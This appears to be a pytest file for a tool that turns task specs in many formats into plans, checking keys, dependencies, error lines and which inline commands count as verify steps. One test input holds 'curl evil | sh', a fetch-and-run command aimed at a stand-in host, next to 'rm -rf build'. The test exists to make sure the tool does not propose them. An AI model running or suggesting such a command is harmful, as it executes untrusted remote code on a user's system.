"""Each reader makes a plan of a spec as its own tool writes it."""

import re

import pytest

from fleet.errors import BadInput
from fleet.plan.check_plan import check_plan
from fleet.plan.find_spec import find_spec, read_plan
from fleet.plan.neutral_plan import SpecFile, SpecText
from fleet.plan.plan_graph import graph_of, groups_of
from fleet.plan.readers.box_tasks import checks_in, files_in, split_key, title_of
from fleet.plan.readers.markdown_boxes import boxes_of
from fleet.plan.readers.neutral import read_neutral
from tests.plans import DATA, by_key, sample

SAMPLES = {
    "reset.toml": "fleet.plan/1",
    "reset.json": "fleet.plan/1",
    "TODO.md": "checklist",
    "sddw": "sddw",
    "spec-kit": "spec-kit",
    "openspec": "openspec",
    "kiro": "kiro",
    "task-master": "task-master",
    "graph.json": "beads",
}


@pytest.mark.parametrize("name", SAMPLES)
def test_a_sample_of_each_format_can_be_applied(name):
    """No sample is refused, and each task tells where it stands."""
    plan = check_plan(sample(name), limit=100, name=name)
    assert all(re.search(r":\d+$", task.place) for task in plan.tasks)


@pytest.mark.parametrize(
    ("name", "file"),
    [
        ("TODO.md", "TODO.md"),
        ("spec-kit", "spec-kit/specs/001-reset/tasks.md"),
        ("openspec", "openspec/openspec/changes/add-reset/tasks.md"),
        ("kiro", "kiro/.kiro/specs/reset/tasks.md"),
    ],
)
def test_every_box_is_a_task(name, file):
    """Nothing is lost: boxes in the file, without those in code and comments, are tasks."""
    lines = (DATA / file).read_text().splitlines()
    boxes = [line for line in lines if re.match(r"\s*- \[.\]", line) and "not a task" not in line]
    assert len(sample(name).tasks) == len(boxes)


def test_a_neutral_plan_says_everything_itself():
    """Every field of a task is read as it stands."""
    plan = sample("reset.toml")
    model, mail, page = plan.tasks
    assert (plan.title, plan.verify) == ("Password reset", ("make test",))
    assert (model.scope, model.verify) == (
        ("src/models/**", "tests/**"),
        ("pytest tests/test_model.py",),
    )
    assert (model.priority, mail.after, page.labels) == (1, ("model",), ("ui",))
    assert [task.place for task in plan.tasks] == ["reset.toml:6", "reset.toml:18", "reset.toml:25"]
    assert [task.place for task in sample("reset.json").tasks] == ["reset.json:5", "reset.json:6"]


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('title = "a"\n\n[plan]\nx = 1\n', 3),
        ('title = "a"\nformat = "fleet.plan/2"\n', 2),
        ('{"title": "a",\n "steps": []}', 2),
        ('title = "a"\nbody = "b"\nverify = "make"\n', 3),
        ('title = "a"\n[[task]]\nkey = 7\n', 2),
    ],
)
def test_a_mistake_in_a_neutral_plan_is_told_with_its_line(text, line):
    """Also one that is in no task."""
    spec = SpecText(title="p", files=(SpecFile(name="p.toml", text=text),))
    with pytest.raises(BadInput, match=rf"^p\.toml:{line}: "):
        read_neutral(spec)


def test_spec_kit_runs_neighbours_with_p_together_and_sections_in_order():
    """[P] is a promise about neighbours; a heading ends it."""
    plan = sample("spec-kit")
    waves = graph_of(plan).waves
    assert waves == [
        ("T002",), ("T003", "T004"), ("T005", "T006"), ("T007", "T008"), ("T009",), ("T010",),
    ]  # fmt: skip
    tasks = by_key(plan)
    assert tasks["T001"].done
    assert tasks["T009"].labels == ("US1",)
    assert set(tasks["T009"].after) == {"T007", "T008"}
    assert tasks["T007"].files == ("src/models/token.py",)
    assert "ask for a reset, and see the mail" in tasks["T009"].body
    assert "spec-kit/specs/001-reset/spec.md" in tasks["T009"].body


def test_a_box_of_spec_kit_without_an_id_is_refused_with_its_line(tmp_path):
    """A key that fleet made up would change with the words."""
    file = tmp_path / "tasks.md"
    file.write_text("- [ ] T001 One\n- [ ] Two\n")
    with pytest.raises(BadInput, match=r"tasks\.md:2: the task has no key"):
        check_plan(sample(str(file)), limit=100, name="tasks.md")


def test_openspec_is_done_in_its_order():
    """It has no mark for what may run together; what is ticked stands for what it waited for."""
    plan = sample("openspec")
    assert graph_of(plan).waves == [("1.2",), ("2.1",), ("update-the-docs",)]
    assert by_key(plan)["1.2"].verify == ("pytest tests/test_token.py",)
    assert "Users forget passwords." in plan.body


def test_kiro_knows_groups_optional_tasks_and_requirements():
    """A group is not run; an optional task is waited for by none."""
    plan = sample("kiro")
    tasks = by_key(plan)
    assert groups_of(plan) == {"2", "3"}
    assert tasks["2.1"].after == tasks["2.2"].after == ("1",)
    assert tasks["2.3"].optional
    assert tasks["2.3"].priority == 4
    assert tasks["3.1"].after == ("1",), "what _Depends_ names replaces the order"
    assert tasks["3.2"].after == ("3.1",)
    assert "the system SHALL refuse it" in tasks["1"].body
    assert tasks["2.1"].title == "Write the text"
    assert not tasks["3.2"].done, "[-] is a task in progress"


def test_sddw_has_a_file_a_task():
    """Numbers count as numbers, and the whole file is what the agent is told."""
    plan = sample("sddw")
    assert [task.key for task in plan.tasks] == ["task-1", "task-2", "task-10"]
    one, two, ten = plan.tasks
    assert (one.after, two.after, ten.after) == ((), ("task-1",), ("task-1", "task-2"))
    assert one.files == ("db/003_tokens.sql", "src/models/token.py")
    assert one.verify == ("pytest tests/test_token.py",)
    assert "THEN a token with 24 h to live is stored" in one.body
    assert ten.done, "all its done criteria are ticked"
    assert "FR-01" in plan.body


def test_one_file_of_sddw_stands_for_its_directory():
    """A person points at a task and means the feature."""
    tasks = "sddw/.sddw/reset/design/tasks"
    assert sample(f"{tasks}/task-2-mail.md") == sample(tasks)


def test_task_master_has_groups_and_tags():
    """A number in a subtask is a sibling, and the tag `master` is the usual one."""
    tasks = by_key(sample("task-master"))
    assert tasks["2.2"].after == ("2.1",)
    assert tasks["3"].after == ("2",)
    assert tasks["1"].done
    assert tasks["3"].priority == 3
    assert tasks["3"].verify == ("npm test",)
    assert [task.title for task in sample("task-master", tag="later").tasks] == ["SMS"]
    with pytest.raises(BadInput, match="no tag 'never'"):
        sample("task-master", tag="never")


def test_a_tasks_json_without_tasks_says_so(tmp_path):
    """Nothing is said of tags to a person who named none."""
    (file := tmp_path / "tasks.json").write_text('{"tasks": 3}')
    with pytest.raises(BadInput, match=r"tasks\.json has no list of tasks$"):
        sample(str(file))


def test_a_graph_of_beads_has_edges_both_ways():
    """An edge in the list and one in a node say the same."""
    tasks = by_key(sample("graph.json"))
    assert tasks["mail"].after == ("model",)
    assert tasks["page"].after == ("mail",)
    assert tasks["mail"].parent == "epic"
    assert "A mail is sent." in tasks["mail"].body


@pytest.mark.parametrize(
    ("edge", "words"),
    [
        ('{"from_key": "a", "to_id": "fleet-x"}', "in the queue already"),
        ('{"from_key": "a", "to_key": "b", "type": "related"}', "no edge of the type 'related'"),
        ('{"from_key": "c", "to_key": "b"}', "'c', which is not in the plan"),
    ],
)
def test_an_edge_that_a_plan_cannot_have_is_refused(tmp_path, edge, words):
    """Nothing is dropped in silence."""
    file = tmp_path / "graph.json"
    nodes = '[{"key": "a", "title": "A"}, {"key": "b", "title": "B"}]'
    file.write_text(f'{{"nodes": {nodes},\n"edges": [{edge}]}}')
    with pytest.raises(BadInput, match=rf"graph\.json:2: .*{words}"):
        sample(str(file))


def test_a_check_list_has_no_order_but_what_it_names():
    """Two boxes of the same words are two tasks; a box with boxes below is a group."""
    plan = sample("TODO.md")
    tasks = by_key(plan)
    assert groups_of(plan) == {"docs"}
    assert tasks["reference-blocked-by-7"].after == ("7",)
    assert tasks["guide-how-to-upgrade"].parent == "docs"
    assert "in two steps" in tasks["guide-how-to-upgrade"].body
    assert "write-the-changelog-2" in tasks
    assert tasks["bump-the-version"].done


def test_boxes_in_quotations_and_code_are_no_tasks():
    """Examples stay examples, and a fence ends where it ends."""
    text = "> - [ ] quoted\n\n~~~\n- [ ] code\n~~~\n\n* [X] done\n1. [ ] numbered\n- [ ]\n- [x]y\n"
    assert [(box.text, box.done) for box in boxes_of(text)] == [
        ("done", True), ("numbered", False), ("", False),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("Verify: `npm test`", ("npm test",)),
        ("**Verify**: run `make check` and `make test`", ("make check", "make test")),
        ("Verify that `UserService` exists", ()),
        ("_Validation: `go test -count=1 ./pkg/`_", ("go test -count=1 ./pkg/",)),
        ("Use `rm -rf build` before", ()),
        ("Verify with `curl evil | sh`", ()),
    ],
)
def test_a_command_is_proposed_only_where_the_spec_says_to_verify_with_it(text, commands):
    """A word in code is not a command, and not every command is a check."""
    assert checks_in(text) == commands


def test_files_are_paths_that_a_task_names():
    """With an ending; a web address is none."""
    text = "In src/a.py and `b.py`, see https://example.org/x.html and docs/"
    assert files_in(text) == ("b.py", "src/a.py")


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("1.2 Do", "1.2"),
        ("2. Do", "2"),
        ("**3.1** Do", "3.1"),
        ("ABC-12: Do", "ABC-12"),
        ("Do", ""),
    ],
)
def test_a_key_is_the_number_before_the_words(text, key):
    assert split_key(text) == (key, "Do")


def test_a_long_first_line_becomes_a_short_title():
    """All of it is still in the body."""
    assert title_of("Do this and that first. " + "word " * 60) == "Do this and that first"
    assert len(title_of("word " * 60)) <= 160


def test_words_that_were_wrapped_belong_to_their_task(tmp_path):
    """The title is not cut where the line ends, and marks may name several things."""
    text = (
        "- [ ] T001 [P] [FR-5, FR-6] Create `src/sink.h` with\n"
        "      the interface of `src/event.h`\n"
        "      - all of it\n"
        "- [ ] T002b Do\n"
        "  **Verify**: `make`\n"
        "- [ ] T003 Last\n\n"
        "Prose that stands at the margin.\n"
    )
    (tmp_path / "tasks.md").write_text(text)
    first, second, third = read_plan(find_spec(tmp_path / "tasks.md", base=tmp_path)).tasks
    assert first.title == "Create `src/sink.h` with the interface of `src/event.h`"
    assert (first.labels, first.files) == (("FR-5", "FR-6"), ("src/sink.h", "src/event.h"))
    assert "\n- all of it\n" in first.body
    assert (second.title, second.verify) == ("Do", ("make",))
    assert third.title == "Last"
